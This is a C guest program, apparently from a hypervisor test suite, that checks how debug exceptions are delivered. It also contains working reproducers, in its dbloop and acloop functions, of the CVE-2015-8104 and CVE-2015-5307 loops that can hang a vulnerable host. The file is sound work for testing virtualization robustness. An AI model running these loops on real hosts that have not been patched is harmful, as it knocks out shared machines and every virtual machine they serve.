/*
 * hostile_debug: debug exceptions and alignment checks shaped the way the
 * guest-to-host denial-of-service attacks on VT-x were (the guest command
 * line picks one):
 *
 *  (no word)  ICEBP (INT1, opcode F1) reaches the guest's #DB handler as a
 *             trap: the saved EIP is the instruction after it. A VMM that
 *             reflects the intercepted #DB as a hardware exception leaves
 *             EIP on the ICEBP, so the guest runs it again forever. Also a
 *             data breakpoint and a single step still arrive as traps.
 *  dbloop     CVE-2015-8104's shape: data breakpoints on the IDT's #DB gate
 *             and on the ring-0 stack slot that #DB delivery writes, then
 *             debug exceptions for ever. On a CPU without the #DB intercept
 *             the delivery can loop inside the CPU and hang the host.
 *  acloop     CVE-2015-5307's shape: an #AC handler that runs at CPL 3 (a
 *             conforming code segment) on a misaligned stack with EFLAGS.AC
 *             and CR0.AM set, so delivering #AC raises #AC again, for ever.
 *
 * The loops never end by design (test.expect "running"): the host must
 * keep its CPU (every round is a VM exit), finish the other VMs and stop
 * this one at the end.
 */
#include "guest.h"
#include "cpu.h"
#include "trap.h"

const char guest_name[] = "hostile_debug";

#define VEC_AC 17
#define DR7_L0 (1u << 0)
#define DR7_L1 (1u << 2)
#define DR7_RW0(x) ((x) << 16)
#define DR7_LEN0(x) ((x) << 18)
#define DR7_RW1(x) ((x) << 20)
#define DR7_LEN1(x) ((x) << 22)
#define DR_RW_WRITE 1
#define DR_RW_ACCESS 3
#define DR_LEN_4 3

struct dtr {
	uint16_t limit;
	uint32_t base;
} __attribute__((packed));

static volatile uint32_t watched;
static volatile uint32_t db_count;

static void set_dr(uint32_t dr0, uint32_t dr1, uint32_t dr7)
{
	asm volatile("mov %0, %%dr0\n\tmov %1, %%dr1\n\tmov %2, %%dr7"
		     : : "r"(dr0), "r"(dr1), "r"(dr7) : "memory");
}

static void check_icebp(void)
{
	int vec;

	if (vmk_skip("icebp_is_a_trap"))	/* QEMU TCG raises #UD for ICEBP */
		return;
	trap_arm();
	asm volatile(TRAP_TRY(".byte 0xf1") : : : "memory");
	vec = trap_done();
	CHECKF(vec == VEC_DB && trap_last.eip == trap_after, "icebp_is_a_trap",
	       "vector %d, saved eip 0x%x (after the instruction: 0x%x, on it: 0x%x)", vec,
	       trap_last.eip, trap_after, trap_insn);

	/* Twice more: a VMM that loses track would show up as a wrong EIP here. */
	for (int i = 0; i < 2; i++) {
		trap_arm();
		asm volatile(TRAP_TRY(".byte 0xf1") : : : "memory");
		vec = trap_done();
		CHECKF(vec == VEC_DB && trap_last.eip == trap_after, "icebp_again",
		       "vector %d, eip 0x%x, want 0x%x", vec, trap_last.eip, trap_after);
	}
}

static void check_data_breakpoint(void)
{
	int vec;

	set_dr((uint32_t)(uintptr_t)&watched, 0, DR7_L0 | DR7_RW0(DR_RW_WRITE) | DR7_LEN0(DR_LEN_4));
	trap_arm();
	asm volatile(TRAP_TRY("movl $1, %0") : "=m"(watched) : : "memory");
	vec = trap_done();
	set_dr(0, 0, 0);
	CHECKF(vec == VEC_DB && trap_last.eip == trap_after && (trap_last.dr6 & 1),
	       "data_breakpoint_trap", "vector %d, eip 0x%x (want 0x%x), dr6 0x%x", vec,
	       trap_last.eip, trap_after, trap_last.dr6);

	trap_arm();
	asm volatile("pushfl\n\torl $0x100, (%%esp)\n\tpopfl\n\t" TRAP_TRY("nop") : : : "memory");
	vec = trap_done();
	CHECKF(vec == VEC_DB && (trap_last.dr6 & (1u << 14)), "single_step",
	       "vector %d, dr6 0x%x", vec, trap_last.dr6);
}

static void count_db(struct trap_frame *f)
{
	(void)f;
	db_count++;
}

/* CVE-2015-8104's shape: #DB whose delivery touches watched memory, for ever. */
static void __attribute__((noreturn)) db_loop(void)
{
	struct dtr idtr;
	uint32_t gate, stack_slot;

	asm volatile("sidt %0" : "=m"(idtr));
	gate = idtr.base + VEC_DB * 8;
	stack_slot = (uint32_t)(uintptr_t)&stack_slot - 64;	/* where the next frame goes */
	irq_register(VEC_DB, count_db);
	gprintf("%s: #DB breakpoints on the IDT gate 0x%x and the stack 0x%x, then #DB for ever\n",
		guest_name, gate, stack_slot);
	set_dr(gate, stack_slot, DR7_L0 | DR7_RW0(DR_RW_ACCESS) | DR7_LEN0(DR_LEN_4) | DR7_L1 |
				     DR7_RW1(DR_RW_WRITE) | DR7_LEN1(DR_LEN_4));
	for (;;)
		asm volatile(".byte 0xf1\n\tint $1" : : : "memory");
}

/* The #AC handler: CPL 3, misaligned stack; if the CPU ever gets here, go round again. */
extern char ac_user_start[], ac_handler[];
asm(".text\n"
    "ac_user_start:\n\t"
    "pushfl\n\torl $0x40000, (%esp)\n\tpopfl\n\t"	/* EFLAGS.AC */
    "andl $~3, %esp\n\tsubl $1, %esp\n"		/* a misaligned stack */
    "1:\tmovl (%esp), %eax\n\t"			/* a misaligned load: #AC */
    "jmp 1b\n"
    "ac_handler:\n\t"
    "jmp 1b\n");

static uint64_t gdt_big[16] __attribute__((aligned(8)));

/* CVE-2015-5307's shape: #AC whose delivery raises #AC, for ever. */
static void __attribute__((noreturn)) ac_loop(void)
{
	struct dtr gdtr, idtr, big;
	uint32_t *gate;
	uint32_t h = (uint32_t)(uintptr_t)ac_handler;

	asm volatile("sgdt %0\n\tsidt %1" : "=m"(gdtr), "=m"(idtr));
	__builtin_memcpy(gdt_big, (void *)(uintptr_t)gdtr.base, gdtr.limit + 1u);
	/* Selector 0x40: a DPL-3 conforming code segment, so the handler keeps CPL 3. */
	gdt_big[8] = 0x00cffe000000ffffULL;
	big.limit = sizeof(gdt_big) - 1;
	big.base = (uint32_t)(uintptr_t)gdt_big;
	asm volatile("lgdt %0" : : "m"(big));
	gate = (uint32_t *)(uintptr_t)(idtr.base + VEC_AC * 8);
	gate[0] = (0x40u << 16) | (h & 0xffff);
	gate[1] = (h & 0xffff0000u) | 0xee00;	/* present, DPL 3, 32-bit interrupt gate */
	write_cr0(read_cr0() | CR0_AM);
	gprintf("%s: #AC at CPL 3 on a misaligned stack, for ever\n", guest_name);
	run_user((int (*)(void))(uintptr_t)ac_user_start);
	guest_fail("returned from the #AC loop");
	guest_finish();
}

void guest_main(void)
{
	if (cmdline_has("dbloop"))
		db_loop();
	if (cmdline_has("acloop"))
		ac_loop();
	check_icebp();
	check_data_breakpoint();
	guest_finish();
}
